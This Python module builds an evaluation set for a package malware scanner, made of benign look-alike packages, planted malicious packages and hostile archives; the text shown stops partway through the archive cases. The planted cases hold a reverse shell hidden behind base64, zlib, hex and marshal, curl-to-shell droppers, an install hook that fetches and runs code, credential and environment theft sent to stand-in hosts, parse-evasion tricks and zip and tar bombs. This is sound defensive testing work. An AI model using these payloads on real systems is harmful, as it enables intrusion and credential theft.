"""The scanner's evaluation set, built in memory: benign packages close to the line, planted malicious
patterns of every detection family, and hostile archives built to break scanners.

Used by ``lib/scans/test_evaluation.py`` (every planted pattern found, benign packages low, hostile
archives recorded and never written) and by ``bench/scan_eval`` (recall and false-positive figures).
Secrets, payloads and hostile member names are assembled at run time, so no complete secret sits in a
source file. Every hostile member name carries ``marker``: a scanner that wrote one to disk can be caught
by looking for it.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import hashlib
import io
import lzma
import marshal
import random
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from pypi_platform_testkit.dists import build_sdist, build_wheel, core_metadata, normalize_dist_name

BENIGN_SCORE_LIMIT = 30.0  # a benign package scoring this or more is a false positive
DEFAULT_MARKER = "scan-eval-escape"
TOP_NAMES = (
    "requests", "numpy", "django", "boto3", "botocore", "urllib3", "setuptools", "certifi", "pandas", "flask",
    "pytest", "six", "pyyaml", "cryptography", "click", "jinja2", "attrs", "idna", "packaging", "pip", "wheel",
    "python-dateutil", "typing-extensions", "charset-normalizer", "pydantic", "protobuf", "markupsafe",
    "colorama", "scipy", "matplotlib", "pillow", "sqlalchemy", "s3transfer", "pyasn1", "rsa", "fsspec",
)  # fmt: skip
_TAR_MTIME = 315532800  # 1980-01-01, as dists.py
_ANY = "py3-none-any"


@dataclass(frozen=True)
class EvalFile:
    filename: str
    data: bytes
    packagetype: str  # "sdist" or "wheel"


@dataclass(frozen=True)
class Expect:
    rule: str
    path: str  # a suffix of the detection's path; "" for findings about the package (typosquat)


@dataclass(frozen=True)
class EvalCase:
    name: str
    version: str
    family: str
    files: tuple[EvalFile, ...]
    expected: tuple[Expect, ...] = ()
    benign: bool = False
    adversarial: bool = False

    @property
    def planted(self) -> bool:
        return not self.benign and not self.adversarial


def build_evalset(marker: str = DEFAULT_MARKER) -> tuple[EvalCase, ...]:
    """Every case: benign, planted and adversarial, with hostile member names carrying ``marker``."""
    cases = (*benign_cases(), *planted_cases(), *adversarial_cases(marker))
    assert len({case.name for case in cases}) == len(cases), "case names are unique"
    return cases


# ---- judging records: the test and the bench use the same definitions ---------------------------------


def found(record: dict | None, expect: Expect) -> bool:
    detections = record["detections"] if record else ()
    return any(d["rule"] == expect.rule and d["path"].endswith(expect.path) for d in detections)


def threats(record: dict | None) -> list[dict]:
    return [d for d in (record["detections"] if record else ()) if d["kind"] == "threat"]


def false_positive(record: dict | None) -> bool:
    """A benign package flagged: no score, a score at the limit or above, or any threat-kind detection."""
    return (
        record is None
        or record["score"] is None
        or record["score"] >= BENIGN_SCORE_LIMIT
        or bool(threats(record))
    )


def write_inputs(cases: tuple[EvalCase, ...], directory: Path) -> list:
    """Each case's release files on disk under ``directory`` (a temporary one), as the scanner's inputs."""
    from pypi_platform.lib.scans.batch import LocalFile, PackageInput

    packages = []
    for case in cases:
        (directory / case.name).mkdir(parents=True)
        files = []
        for file in case.files:
            path = directory / case.name / file.filename
            path.write_bytes(file.data)
            sha256 = hashlib.sha256(file.data).hexdigest()
            files.append(LocalFile(file.filename, str(path), sha256, len(file.data), file.packagetype))
        packages.append(PackageInput(case.name, case.version, tuple(files)))
    return packages


# ---- release files -----------------------------------------------------------------------------------


def _stem(name: str, version: str) -> str:
    return f"{normalize_dist_name(name)}-{version}"


def _release(
    name: str,
    version: str,
    members: dict[str, str | bytes],
    *,
    sdist: str | None = "gz",
    wheel: str | None = None,
) -> tuple[EvalFile, ...]:
    """An sdist (``sdist``: "gz" or "xz") and/or a wheel (``wheel``: its tag) of ``members``.

    Text-only packages go through dists.py; members of bytes, and .tar.xz, through the builders below. A wheel
    takes the members inside a package directory, as a build would, not tests/, docs/ or top-level files.
    """
    files = []
    text = all(isinstance(value, str) for value in members.values())
    if sdist == "gz" and text:
        files.append(EvalFile(*build_sdist(name, version, modules=members), "sdist"))
    elif sdist:
        entries = [
            (_entry(path), _bytes(data))
            for path, data in {"PKG-INFO": core_metadata(name, version), **members}.items()
        ]
        files.append(_tar_sdist(name, version, entries, sdist))
    if wheel:
        inside = {
            path: data
            for path, data in members.items()
            if path.endswith(".pth") or ("/" in path and path.split("/")[0] not in ("tests", "docs"))
        }
        if text and wheel == "py3-none-any":
            files.append(EvalFile(*build_wheel(name, version, modules=inside), "wheel"))
        else:
            files.append(_wheel(name, version, {path: _bytes(data) for path, data in inside.items()}, wheel))
    return tuple(files)


def _bytes(data: str | bytes) -> bytes:
    return data.encode() if isinstance(data, str) else data


def _entry(name: str, kind: bytes = tarfile.REGTYPE, mode: int = 0o644, **attrs) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.mtime = kind, mode, _TAR_MTIME
    for key, value in attrs.items():
        setattr(info, key, value)
    return info


def _tar_sdist(
    name: str,
    version: str,
    entries: list[tuple[tarfile.TarInfo, bytes | None]],
    compression: str = "gz",
    **options,
) -> EvalFile:
    """An sdist of tar entries, each under "name-version/" unless its name is absolute."""
    stem = _stem(name, version)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", **options) as archive:
        for info, data in entries:
            info.name = info.name if info.name.startswith("/") else f"{stem}/{info.name}"
            if data is not None:
                info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    compress = (
        lzma.compress if compression == "xz" else lambda data: gzip.compress(data, compresslevel=6, mtime=0)
    )
    return EvalFile(f"{stem}.tar.{compression}", compress(raw.getvalue()), "sdist")


def _zip(members: dict[str, bytes], links: frozenset[str] = frozenset()) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        for path, data in members.items():
            info = zipfile.ZipInfo(path, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (0o120777 if path in links else 0o100644) << 16
            archive.writestr(info, data)
    return raw.getvalue()


def _wheel(
    name: str,
    version: str,
    files: dict[str, bytes],
    tag: str = "py3-none-any",
    links: frozenset[str] = frozenset(),
) -> EvalFile:
    """A wheel of arbitrary bytes (dists.build_wheel takes text), with METADATA, WHEEL and RECORD."""
    dist_info = f"{_stem(name, version)}.dist-info"
    purelib = "true" if tag.endswith("-any") else "false"
    wheel = (
        f"Wheel-Version: 1.0\nGenerator: scanner-evalset\nRoot-Is-Purelib: {purelib}\nTag: {tag}\n\n".encode()
    )
    members = {**files, f"{dist_info}/METADATA": core_metadata(name, version), f"{dist_info}/WHEEL": wheel}
    record = "".join(f"{path},sha256={_record_digest(data)},{len(data)}\n" for path, data in members.items())
    members[f"{dist_info}/RECORD"] = f"{record}{dist_info}/RECORD,,\n".encode()
    return EvalFile(f"{_stem(name, version)}-{tag}.whl", _zip(members, links), "wheel")


def _record_digest(data: bytes) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def elf(kind: int = 2, size: int = 4096) -> bytes:
    """A 64-bit x86-64 ELF header (2: executable, 3: shared object) and filler: what a header check sees."""
    header = b"\x7fELF\x02\x01\x01" + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", kind, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    return header + random.Random(kind).randbytes(size - len(header))


def pe(size: int = 4096) -> bytes:
    """A DOS stub pointing at a PE signature and an x86-64 COFF header."""
    stub = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    stub += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(stub), b"\0")
    stub += b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 3, 0, 0, 0, 0xF0, 0x22)
    return bytes(stub) + random.Random(0).randbytes(size - len(stub))


def png_icon(size: int = 32) -> bytes:
    """A real PNG, a shaded disc with a noisy fill, of about 1.3 KB: the size of icons packages embed."""
    noise = random.Random(7)
    rows = bytearray()
    for y in range(size):
        rows.append(0)  # filter type of the row
        for x in range(size):
            inside = (x - size / 2 + 0.5) ** 2 + (y - size / 2 + 0.5) ** 2 < (size / 2 - 1) ** 2
            shade = (40 + 5 * x + noise.randrange(6)) & 0xFF if inside else 0
            rows += bytes((shade, 120 + y * 3, 200, 255 if inside else 0))

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(bytes(rows), 9)) + chunk(b"IEND", b"")


def _expect(*pairs: str) -> tuple[Expect, ...]:
    """Expectations written "rule @ path suffix"."""
    return tuple(
        Expect(rule.strip(), path.strip()) for rule, _, path in (pair.partition("@") for pair in pairs)
    )


# ---- benign packages: ordinary code using the same capabilities as malware ----------------------------

_HTTP_CLIENT = '''"""A small HTTP client with retries, timeouts and netrc credentials."""
import json
import netrc
import os
import socket
import time
import urllib.error
import urllib.request
from urllib.parse import urlencode, urlparse

USER_AGENT = "tinyhttp/1.4"
NETRC_FILES = (".netrc", "_netrc")  # where curl and other clients look for credentials, as this one does


def netrc_auth(url):
    host = urlparse(url).hostname
    for name in NETRC_FILES:
        path = os.path.join(os.path.expanduser("~"), name)
        if os.path.exists(path):
            entry = netrc.netrc(path).authenticators(host)
            if entry:
                return entry[0], entry[2]
    return None


class Client:
    def __init__(self, base_url, timeout=10.0, retries=3):
        self.base_url, self.timeout, self.retries = base_url.rstrip("/"), timeout, retries

    def get(self, path, **params):
        query = "?" + urlencode(params) if params else ""
        request = urllib.request.Request(self.base_url + path + query, headers={"User-Agent": USER_AGENT})
        return self._send(request)

    def post_json(self, path, payload):
        body = json.dumps(payload).encode()
        headers = {"User-Agent": USER_AGENT, "Content-Type": "application/json"}
        return self._send(urllib.request.Request(self.base_url + path, data=body, headers=headers))

    def _send(self, request):
        for attempt in range(self.retries):
            try:
                with urllib.request.urlopen(request, timeout=self.timeout) as response:
                    return response.status, response.read()
            except (urllib.error.URLError, socket.timeout):
                time.sleep(2**attempt)
        raise ConnectionError(f"{request.full_url}: no answer after {self.retries} attempts")
'''

_GIT_CLI = '''"""gitstamp: print a version string from git tags."""
import argparse
import subprocess
import sys


def git(*args, cwd=None):
    result = subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True)
    return result.stdout.strip()


def main(argv=None):
    parser = argparse.ArgumentParser(prog="gitstamp")
    parser.add_argument("--dirty", action="store_true", help="mark uncommitted changes")
    args = parser.parse_args(argv)
    try:
        describe = git("describe", "--tags", "--always", *(["--dirty"] if args.dirty else []))
    except (OSError, subprocess.CalledProcessError) as exc:
        print(f"gitstamp: {exc}", file=sys.stderr)
        return 1
    print(describe.lstrip("v"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
'''

_BUILD_EXT_SETUP = '''import sys
from pathlib import Path

from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext


class OptionalBuildExt(build_ext):
    """Fall back to the pure-Python implementation when no compiler is available."""

    def run(self):
        try:
            super().run()
        except Exception as exc:
            print(f"warning: C extension not built ({exc}); the pure-Python fallback is used", file=sys.stderr)

    def build_extension(self, ext):
        ext.extra_compile_args = ["/O2"] if self.compiler.compiler_type == "msvc" else ["-O3"]
        super().build_extension(ext)


setup(
    name="fastcrc",
    version="2.0.1",
    long_description=Path("README.md").read_text(encoding="utf-8"),
    packages=["fastcrc"],
    ext_modules=[Extension("fastcrc._crc", ["src/_crc.c"])],
    cmdclass={"build_ext": OptionalBuildExt},
)
'''

_C_SOURCE = """#define PY_SSIZE_T_CLEAN
#include <Python.h>

static unsigned long table[256];

static PyObject *crc32(PyObject *self, PyObject *args) {
    Py_buffer buffer;
    unsigned long crc = 0xFFFFFFFFul;
    if (!PyArg_ParseTuple(args, "y*", &buffer)) return NULL;
    for (Py_ssize_t i = 0; i < buffer.len; i++)
        crc = table[(crc ^ ((unsigned char *)buffer.buf)[i]) & 0xFF] ^ (crc >> 8);
    PyBuffer_Release(&buffer);
    return PyLong_FromUnsignedLong(crc ^ 0xFFFFFFFFul);
}

static PyMethodDef methods[] = {{"crc32", crc32, METH_VARARGS, "CRC-32 of a buffer."}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_crc", NULL, -1, methods};

PyMODINIT_FUNC PyInit__crc(void) {
    for (unsigned long n = 0; n < 256; n++) {
        unsigned long c = n;
        for (int k = 0; k < 8; k++) c = c & 1 ? 0xEDB88320ul ^ (c >> 1) : c >> 1;
        table[n] = c;
    }
    return PyModule_Create(&module);
}
"""

_TASK_CLI = '''"""tinytask: a to-do list kept in a JSON file."""
import json
import sys
from pathlib import Path


def main(argv=None):
    argv = sys.argv[1:] if argv is None else argv
    store = Path(argv[0])
    tasks = json.loads(store.read_text()) if store.exists() else []
    tasks.extend(argv[1:])
    store.write_text(json.dumps(tasks, indent=2))
    print(f"{len(tasks)} tasks")


if __name__ == "__main__":
    main()
'''

_TASK_TESTS = """import json
import os
import subprocess
import sys
import tempfile

from tinytask import main


def test_cli_appends_tasks():
    with tempfile.TemporaryDirectory() as tmp:
        store = os.path.join(tmp, "tasks.json")
        with open(store, "w") as f:
            f.write("[]")
        command = [sys.executable, "-m", "tinytask", store, "write docs"]
        result = subprocess.run(command, capture_output=True, text=True)
        assert result.returncode == 0, result.stderr
        assert json.load(open(store)) == ["write docs"]


def test_main_creates_the_store(tmp_path):
    main([str(tmp_path / "t.json"), "a", "b"])
    assert json.loads((tmp_path / "t.json").read_text()) == ["a", "b"]
"""

_PLUGIN_LOADER = '''"""Plugins are modules named in configuration or registered as entry points."""
import importlib
from importlib.metadata import entry_points

_loaded = {}


def load(name):
    """Import the plugin module `name` (a dotted path) once and return it."""
    if name not in _loaded:
        module = importlib.import_module(name if "." in name else f"plugbox.plugins.{name}")
        if not hasattr(module, "register"):
            raise TypeError(f"{name} is not a plugbox plugin: it has no register()")
        _loaded[name] = module
    return _loaded[name]


def discover():
    return [entry_point.load() for entry_point in entry_points(group="plugbox.plugins")]
'''

_CONFIG = '''"""Settings from the environment, with defaults for development."""
import os
from dataclasses import dataclass
from pathlib import Path


def _flag(name, default=False):
    return os.environ.get(name, str(default)).lower() in ("1", "true", "yes")


@dataclass(frozen=True)
class Settings:
    debug: bool = _flag("ENVCONF_DEBUG")
    database_url: str = os.environ.get("DATABASE_URL", "sqlite:///dev.db")
    workers: int = int(os.environ.get("ENVCONF_WORKERS", "4"))
    config_dir: Path = Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config")) / "envconf"
    api_token: str | None = os.getenv("ENVCONF_API_TOKEN")


settings = Settings()
'''

_RUN_WITH_ENV = '''"""Run a project's tests in a child interpreter with the project on the path."""
import os
import subprocess
import sys


def run_tests(project_dir, *pytest_args):
    env = os.environ.copy()
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [os.path.join(project_dir, "src"), env.get("PYTHONPATH")]))
    env.setdefault("PYTHONHASHSEED", "0")
    return subprocess.run([sys.executable, "-m", "pytest", *pytest_args], cwd=project_dir, env=env).returncode
'''

_DOCS_README = """# docsite

Static documentation sites from Markdown. Source: https://github.com/example-org/docsite,
documentation: https://docsite.readthedocs.io/en/latest/,
changelog: https://docsite.readthedocs.io/en/latest/changes/.

    pip install docsite
    docsite serve          # then open http://127.0.0.1:8000/ (or http://localhost:8000/)

Report problems at https://github.com/example-org/docsite/issues; see https://www.markdownguide.org/ for syntax.
"""

_DOCS_CONF = """project = "docsite"
extensions = ["sphinx.ext.intersphinx"]
html_baseurl = "https://docsite.readthedocs.io/en/latest/"
intersphinx_mapping = {"python": ("https://docs.python.org/3", None)}
"""


def _certificates() -> str:
    """A CA bundle in PEM form, as certifi ships one: base64 in 64-character lines."""
    rng, blocks = random.Random(11), []
    for number in range(40):
        body = base64.b64encode(rng.randbytes(900)).decode()
        lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
        pem = f"-----BEGIN CERTIFICATE-----\n{lines}\n-----END CERTIFICATE-----\n"
        blocks.append(f"# Issuer: CN=Example Root CA {number}\n{pem}")
    return "\n".join(blocks)


def benign_cases() -> tuple[EvalCase, ...]:
    icon = base64.b64encode(png_icon()).decode()
    bundle = _certificates()
    where = f'import os\n\nSHA256 = "{hashlib.sha256(bundle.encode()).hexdigest()}"\n\n\ndef where():\n'
    where += '    return os.path.join(os.path.dirname(__file__), "cacert.pem")\n'
    native = "cp311-cp311-manylinux_2_17_x86_64"
    table: list[tuple[str, str, dict[str, str | bytes], dict]] = [
        ("tinyhttp", "http client", {"tinyhttp/__init__.py": _HTTP_CLIENT}, {}),
        ("gitstamp", "git cli", {"gitstamp/__main__.py": _GIT_CLI}, {}),
        ("fastcrc", "build_ext override", {
            "setup.py": _BUILD_EXT_SETUP,
            "src/_crc.c": _C_SOURCE,
            "fastcrc/__init__.py": "try:\n    from fastcrc._crc import crc32\n"
                                   "except ImportError:\n    from zlib import crc32\n",
            "README.md": "# fastcrc\n\nCRC-32 in C.\n",
        }, {"wheel": None}),
        ("iconkit", "embedded png", {"iconkit/icons.py": f'"""Tray icons."""\n\nAPP_ICON = b"{icon}"\n'}, {}),
        ("tinytask", "tests with subprocess",
         {"tinytask/__init__.py": _TASK_CLI, "tests/test_cli.py": _TASK_TESTS}, {}),
        ("plugbox", "plugin loader", {"plugbox/loader.py": _PLUGIN_LOADER}, {}),
        ("envconf", "environment config", {"envconf/settings.py": _CONFIG}, {}),
        ("runenv", "subprocess env copy", {"runenv/runner.py": _RUN_WITH_ENV}, {}),
        ("docsite", "docs with urls", {
            "README.md": _DOCS_README, "docs/conf.py": _DOCS_CONF, "docsite/__init__.py": "VERSION = 1\n",
        }, {}),
        ("fastmath", "wheel with .so", {
            "fastmath/__init__.py": "from fastmath._core import dot, norm\n",
            "fastmath/_core.cpython-311-x86_64-linux-gnu.so": elf(kind=3, size=16384),
        }, {"sdist": None, "wheel": native}),
        ("certbundle", "ca bundle", {"certbundle/__init__.py": where, "certbundle/cacert.pem": bundle}, {}),
        ("nspaths", "path-only .pth", {"nspaths.pth": "vendor\n./lib\n", "vendor/nspaths_core.py": "X = 1\n"},
         {"sdist": None}),
    ]  # fmt: skip
    return tuple(
        EvalCase(
            name, "1.0", family, _release(name, "1.0", members, **{"wheel": _ANY, **options}), benign=True
        )
        for name, family, members, options in table
    )


# ---- planted packages: each detection family, each pattern expected at its path -----------------------

_STAGE2 = "import os, socket; s = socket.create_connection(('198.51.100.4', 4444)); os.dup2(s.fileno(), 0)"


def _secrets() -> tuple[str, str, str]:
    """An AWS access key id, a GitHub token and a private key: shapes their issuers document, none real."""
    body = base64.b64encode(random.Random(3).randbytes(600)).decode()
    lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    key = "-----BEGIN " + "RSA PRIVATE" + f" KEY-----\n{lines}\n-----END " + "RSA PRIVATE" + " KEY-----\n"
    # Made up, but shaped as a real leak (no EXAMPLE, FAKE or repeated runs): placeholders are not reported.
    return "AKIA" + "Q7RZ2MWJ5HNPK3VY", "gh" + "p_" + "u8Kq2ZbN4rWx7LmT1pVc9sYd3FgH6jEa0oRi", key


def _decode_and_exec() -> dict[str, str]:
    payload = _STAGE2.encode()
    return {
        "base64": f'import base64\nexec(base64.b64decode("{base64.b64encode(payload).decode()}"))\n',
        "zlib": f"import zlib\nexec(zlib.decompress({zlib.compress(payload)!r}).decode())\n",
        "hex": f'exec(bytes.fromhex("{binascii.hexlify(payload).decode()}").decode())\n',
        "reversed": f"exec({_STAGE2[::-1]!r}[::-1])\n",
    }


_SETUP_AT_INSTALL = """import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        agent = urllib.request.urlopen("https://cdn.example.net/agent.py").read()
        path = os.path.expanduser("~/.local/share/agent.py")
        with open(path, "wb") as out:
            out.write(agent)
        subprocess.Popen(["python3", path], start_new_session=True)


setup(name="setup-at-install", version="1.0", cmdclass={"install": PostInstall})
"""


def planted_cases() -> tuple[EvalCase, ...]:
    aws, github, private_key = _secrets()
    webhook = (
        "https://discord.com/api/webhooks/" + "640391827164509283" + "/" + "q7Zt-mW2xN9bLr4KvP8sHd3Jc6Ye1Ua5"
    )
    blob = base64.b85encode(random.Random(5).randbytes(1200)).decode()  # base85 passes base64's 6 bits/char
    code = marshal.dumps(compile(_STAGE2, "<stage2>", "exec"))
    evasive = (  # Aura scored this 0: the parse failure hid everything
        'import base64, os, urllib.request\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
        'urllib.request.urlopen("http://203.0.113.50:8080/u", data=key.encode())\n'
        f'exec(base64.b64decode("{base64.b64encode(_STAGE2.encode()).decode()}"))\n'
        "_ = " + "+".join(["1"] * 100_000) + "\n"  # too deep for the parser of every Python version
    )
    dropper = 'import os\n\nos.system("curl -fsSL https://get.example.net/i.sh | sh")  # nosec\n'
    dropper_alt = (
        'import subprocess\n\nsubprocess.run("wget -qO- http://get.example.net/x | bash", shell=True)'
    )
    dropper_alt += "  # nosem\n"
    cut_string = 'import os\n\nNOTICE = """\n' + "".join(f"clause {n}\n" for n in range(15_000)) + '"""\n'
    cut_string += 'os.system("curl -s https://get.example.net/q | sh")\n' + _short_statements(300_000)
    table: list[tuple[str, str, dict[str, str | bytes], tuple[str, ...]]] = [
        ("exec-from-network", "dynamic exec", {"autoupdate/__init__.py": "import urllib.request\n\n"
         'code = urllib.request.urlopen("https://updates.example.net/hook.py").read().decode()\nexec(code)\n'},
         ("exec.dynamic-code @ autoupdate/__init__.py",)),
        *((f"decode-exec-{variant}", "decode-and-exec", {f"loader_{variant}/__init__.py": source},
           (f"obfuscation.decode-and-exec @ loader_{variant}/__init__.py",))
          for variant, source in _decode_and_exec().items()),
        ("entropy-blob", "high-entropy literal", {"telemetry/_data.py": f'_BLOB = "{blob}"\n'},
         ("obfuscation.high-entropy-literal @ telemetry/_data.py",)),
        ("marshal-loader", "marshal.loads",
         {"speedups/_boot.py": f"import marshal\n\nexec(marshal.loads({code!r}))\n"},
         ("obfuscation.marshal-load @ speedups/_boot.py",)),
        ("setup-at-install", "install-time setup.py", {"setup.py": _SETUP_AT_INSTALL},
         ("install.cmdclass-override @ setup.py", "network.connection @ setup.py", "file.write @ setup.py",
          "process.spawn @ setup.py")),
        ("pth-hook", ".pth import", {
            "pth_hook/__init__.py": "",
            "pth_hook_init.pth": "import subprocess; subprocess.Popen(['python3', '-m', 'pth_hook'])\n",
        }, ("install.pth-executes-code @ pth_hook_init.pth",)),
        ("raw-ip-beacon", "network exfiltration", {"beacon/__init__.py":
         "import getpass, json, socket, urllib.request\n\n"
         'info = {"host": socket.gethostname(), "user": getpass.getuser()}\n'
         'urllib.request.urlopen("http://198.51.100.23:8443/collect", data=json.dumps(info).encode())\n'},
         ("network.raw-ip-url @ beacon/__init__.py",)),
        ("webhook-drop", "paste/webhook url", {
            "drop/notify.py": f'import requests\n\nrequests.post("{webhook}", json={{"text": "up"}})\n',
            "drop/fetch.py": "import urllib.request\n\n"
                             'STAGE = urllib.request.urlopen("https://pastebin.com/raw/aB3dE5fG").read()\n',
        }, ("network.paste-or-webhook-url @ drop/notify.py", "network.paste-or-webhook-url @ drop/fetch.py")),
        # Suppression comments are the package's own words: they must change nothing.
        ("shell-dropper", "shell download", {"dropper/__init__.py": dropper, "dropper/alt.py": dropper_alt},
         ("process.shell-download @ dropper/__init__.py", "process.shell-download @ dropper/alt.py")),
        # GuardDog v2 never looked under tests/.
        ("tests-dropper", "shell download", {
            "tests_dropper/__init__.py": "",
            "tests/conftest.py": 'import os\n\nos.system("curl -s https://get.example.net/t.sh | bash")\n',
        }, ("process.shell-download @ tests/conftest.py",)),
        ("cred-stealer", "credential access", {
            "stealer/ssh.py": 'import os\n\nKEY = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
            "stealer/aws.py": 'import os\n\nAWS = open(os.path.expanduser("~/.aws/credentials")).read()\n',
            "stealer/browser.py": "import os\n\n"
                                  'DB = os.path.expanduser("~/.config/chromium/Default/Login Data")\n',
        }, ("credentials.sensitive-path @ stealer/ssh.py", "credentials.sensitive-path @ stealer/aws.py",
            "credentials.sensitive-path @ stealer/browser.py")),
        ("env-dump", "environment dump", {"envdump/__init__.py": "import os\n\nimport requests\n\n"
         'requests.post("https://collector.example.net/env", json=dict(os.environ))\n'},
         ("credentials.environment-dump @ envdump/__init__.py",)),
        ("leaky-secrets", "hard-coded secret", {
            "leaky/settings.py": f'AWS_ACCESS_KEY_ID = "{aws}"\nGITHUB_TOKEN = "{github}"\n',
            "leaky/deploy_key.pem": private_key,
        }, ("secret.aws-access-key @ leaky/settings.py", "secret.github-token @ leaky/settings.py",
            "secret.private-key @ leaky/deploy_key.pem")),
        # CVE-2021-42574: on screen the string ends before the comment; for the parser it runs on.
        ("trojan-source", "bidi characters", {"trojan/auth.py": 'def is_admin(user):\n    level = "user"\n'
         '    if level != "user\u202e \u2066# Check if admin\u2069 \u2066":\n        return True\n'},
         ("text.bidi-or-invisible @ trojan/auth.py",)),
        ("bundled-binaries", "executable in sdist",
         {"helper/bin/updater": elf(), "helper/bin/updater.dat": pe()},
         ("binary.executable-in-sdist @ helper/bin/updater",
          "binary.executable-in-sdist @ helper/bin/updater.dat")),
        ("reqeusts", "typosquat", {"reqeusts/__init__.py": "from os import *\n"}, ("metadata.typosquat @",)),
        ("nunpy", "typosquat", {"nunpy/__init__.py": "from os import *\n"}, ("metadata.typosquat @",)),
        ("parse-evasion", "parse-failure evasion", {"evasive/__init__.py": evasive},
         ("parse.failed @ evasive/__init__.py", "credentials.sensitive-path @ evasive/__init__.py",
          "network.raw-ip-url @ evasive/__init__.py")),
        # A source too big for one syntax tree is parsed in pieces cut at lines that look like statements; the
        # unindented lines of a long string look like that too, so the piece holding the payload fails to parse.
        ("pieces-evasion", "parse-failure evasion", {"cut/__init__.py": cut_string},
         ("process.shell-download @ cut/__init__.py",)),
    ]  # fmt: skip
    wheels = {"exec-from-network": _ANY, "pth-hook": _ANY}
    return tuple(
        EvalCase(
            name, "1.0", family, _release(name, "1.0", members, wheel=wheels.get(name)), _expect(*expected)
        )
        for name, family, members, expected in table
    )


# ---- hostile archives: each must give a record, never crash the run, and write nothing ----------------


def _overlapping_zip(marker: str) -> bytes:
    """Two central-directory entries sharing one local entry: the overlapping-entry bomb (CVE-2024-0450)."""
    data = bytearray(_zip({f"{marker}-a.py": b"a = 1\n" * 400, f"{marker}-b.py": b"b = 2\n" * 400}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        first, second = archive.infolist()
    central = data.rfind(b"PK\x01\x02")  # the second entry's central record
    data[central + 42 : central + 46] = first.header_offset.to_bytes(4, "little")
    data[central + 20 : central + 24] = second.compress_size.to_bytes(4, "little")
    return bytes(data)


def _non_utf8_zip(path: bytes, data: bytes) -> bytes:
    """A zip whose member name is raw non-UTF-8 bytes without the UTF-8 flag (zipfile reads it as cp437)."""
    placeholder = b"Q" * len(path)
    return _zip({placeholder.decode(): data}).replace(placeholder, path)


def _nested(depth: int, payload: bytes) -> bytes:
    """level1.zip holding level2.zip ... holding level{depth}.zip, which holds payload.py."""
    data = _zip({"payload.py": payload})
    for level in range(depth, 1, -1):
        data = _zip({f"level{level}.zip": data})
    return data


def _many_members(prefix: str, count: int) -> bytes:
    """A tar.gz of ``count`` empty members, headers written directly (tarfile takes 5x longer for 20,000)."""
    headers = []
    for number in range(count):
        header = bytearray(512)
        name = f"{prefix}-{number}.txt".encode()
        header[: len(name)] = name
        header[100:148] = b"0000644\x000000000\x000000000\x0000000000000\x0002260000000\x00"
        header[148:157] = b" " * 8 + b"0"  # the checksum counts its own field as spaces; "0": a regular file
        header[257:265] = b"ustar\x0000"
        header[148:156] = b"%06o\x00 " % sum(header)
        headers.append(bytes(header))
    return gzip.compress(b"".join(headers) + bytes(1024), compresslevel=6, mtime=0)


def _short_statements(count: int) -> str:
    """``count`` lines like ``q=7``: 4 bytes each, varied enough to compress like text, not like a bomb."""
    rng, letters = random.Random(9), "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return "".join(f"{rng.choice(letters)}={rng.randrange(10)}\n" for _ in range(count))


def adversarial_cases(marker: str = DEFAULT_MARKER) -> tuple[EvalCase, ...]:
    m, ok = marker, b"VALUE = 1\n"
    zeros = bytes(12 * 2**20)  # 12 MiB: past a 200x ratio from ~12 KB, under the member cap
    specials = (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE)
    # 4 MB of source, a million statements: a syntax tree of gigabytes in one piece. The payload on line 2 is bait.
    padded = 'import os\nos.system("curl -s https://get.example.net/p | sh")\n' + _short_statements(1_000_000)
    shell = 'import os\nos.system("curl -s https://get.example.net/x | sh")\n'
    numbers = random.Random(4)
    modules = {
        f"corrupt/m{i}.py": "".join(f"v{j} = {numbers.randrange(10**9)}\n" for j in range(2000))
        for i in range(4)
    }
    whole = _release("corrupt", "1.0", modules)[0]
    beacon = b'URL = "http://198.51.100.9/b"\n'
    zip_link = f"links/{m}-zip-link"
    table: list[tuple[str, str, tuple[EvalFile, ...], tuple[str, ...]]] = [
        ("bomb-tar", "ratio bomb",
         (_tar_sdist("bomb-tar", "1.0", [(_entry("ok.py"), ok), (_entry(f"{m}-zeros.bin"), zeros)]),),
         (f"archive.bomb @ {m}-zeros.bin",)),
        ("bomb-zip", "ratio bomb", (_wheel("bomb-zip", "1.0", {f"bomb_zip/{m}-zeros.bin": zeros}),),
         (f"archive.bomb @ {m}-zeros.bin",)),
        ("oversize-member", "member cap",
         (_tar_sdist("oversize-member", "1.0", [(_entry(f"{m}-big.bin"), bytes(17 * 2**20))]),),
         (f"archive.oversize-member @ {m}-big.bin",)),
